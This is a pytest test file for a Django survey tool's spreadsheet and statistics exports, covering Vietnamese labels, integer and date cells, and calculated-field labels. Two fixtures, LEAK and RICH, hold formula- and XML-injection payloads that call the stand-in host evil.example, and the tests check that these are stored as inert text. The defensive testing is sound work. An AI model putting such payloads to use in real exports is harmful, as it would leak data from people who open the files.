"""The XLSX export opened back: Vietnamese labels in the codebook, integers, dates, formula-like
answers as text; labels of computed fields (calculate) taken from the form."""

import datetime
import zipfile

import pyreadstat
import pytest
from openpyxl import load_workbook

from chiso.surveys.fieldwork.exports import survey_export
from chiso.surveys.fieldwork.xlsx_stream import text_xml
from chiso.surveys.services import questionnaire_import

pytestmark = pytest.mark.django_db

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
RICH = '<r><t>a</t></r></is></c><c r="B1"><f>HYPERLINK("http://evil.example")</f></c><c><is><r><t>b</t></r>'


@pytest.fixture
def computed(make_survey, store, xlsform):
    """Dates, whole numbers, free text and two calculates: one labelled in the form, one not."""
    content = xlsform(
        [("date", "ngay", "Ngày làm thủ tục", ""), ("integer", "so_ngay", "Số ngày chờ", ""), ("text", "y_kien", "Ý kiến", ""),
         ("calculate", "so_tuan", "Số tuần chờ (tính)", "${so_ngay} div 7"), ("calculate", "gap_doi", "", "${so_ngay} * 2")],
        settings={"form_id": "tinh", "version": "1"}, survey_header=("type", "name", "label", "calculation"),
    )
    survey = make_survey(questionnaire_import(file_name="tinh.xlsx", content=content, by=None).version, code="tinh")
    store(survey, {"ngay": "2025-03-13", "so_ngay": "14", "y_kien": LEAK}, key="1")
    store(survey, {"ngay": "", "so_ngay": "3", "y_kien": RICH}, key="2")
    store(survey, {"ngay": "2024-12-31", "so_ngay": "0", "y_kien": "  khoảng trắng  "}, key="3")
    return survey


def _sheet_rows(sheet):
    header, *rows = list(sheet.iter_rows())
    names = [c.value for c in header]
    return names, [{n: c for n, c in zip(names, row)} for row in rows]


def test_the_xlsx_export_opens_with_integers_dates_and_formula_like_answers_as_text(computed, tmp_path):
    target = survey_export(survey=computed, fmt="xlsx", target=tmp_path / "x.xlsx", include_text=True)
    book = load_workbook(target)
    assert book.sheetnames == ["responses", "codebook"]
    names, rows = _sheet_rows(book["responses"])
    assert names[:4] == ["response_id", "submitted_on", "channel", "form_version"] and {"ngay", "so_ngay", "y_kien", "so_tuan", "gap_doi"} <= set(names)
    by_days = {row["so_ngay"].value: row for row in rows}
    assert set(by_days) == {14, 3, 0}
    assert all(isinstance(v, int) and by_days[v]["so_ngay"].data_type == "n" for v in by_days)  # whole numbers as integers
    assert by_days[14]["ngay"].value == datetime.datetime(2025, 3, 13) and by_days[14]["ngay"].is_date  # a date cell
    assert by_days[14]["ngay"].number_format == "dd/mm/yyyy"
    assert by_days[3]["ngay"].value is None  # a missing date is an empty cell
    assert all(row["submitted_on"].is_date for row in rows)  # the date submitted too
    cells = [c for row in book["responses"].iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    assert by_days[14]["y_kien"].value == LEAK and by_days[14]["y_kien"].data_type == "s"
    assert by_days[3]["y_kien"].value == RICH  # markup is text, escaped, not a rich string nor a cell of its own
    assert by_days[0]["y_kien"].value == "khoảng trắng"
    assert book["responses"].max_row == 4


def test_the_codebook_has_vietnamese_labels_and_computed_fields_labelled_from_the_form(computed, tmp_path):
    target = survey_export(survey=computed, fmt="xlsx", target=tmp_path / "x.xlsx", include_text=True)
    codebook = list(load_workbook(target)["codebook"].iter_rows(values_only=True))
    labels = {row[1]: row[2] for row in codebook[1:]}
    assert labels["submitted_on"] == "Ngày nộp" and labels["duration_s"].startswith("Thời gian")  # Vietnamese
    assert labels["so_ngay"] == "Số ngày chờ"
    assert labels["so_tuan"] == "Số tuần chờ (tính)"  # the calculate's label, from the form
    assert labels["gap_doi"] == "gap_doi"  # no label in the form: its name


@pytest.mark.parametrize("fmt", ["sav", "dta"])
def test_spss_and_stata_carry_the_computed_fields_label(computed, tmp_path, fmt):
    target = survey_export(survey=computed, fmt=fmt, target=tmp_path / f"x.{fmt}.zip")
    with zipfile.ZipFile(target) as archive:
        archive.extractall(tmp_path)
    _data, meta = (pyreadstat.read_sav if fmt == "sav" else pyreadstat.read_dta)(str(tmp_path / f"responses.{fmt}"))
    assert meta.column_names_to_labels["so_tuan"] == "Số tuần chờ (tính)"


def test_texts_are_escaped_and_keep_their_spaces_and_control_characters():
    assert text_xml("a&b<c>") == "<t>a&amp;b&lt;c&gt;</t>"
    assert text_xml(" hai đầu ") == '<t xml:space="preserve"> hai đầu </t>'
    assert text_xml("a\x01b_x0041_") == "<t>a_x0001_b_x005F_x0041_</t>"  # as Excel writes them
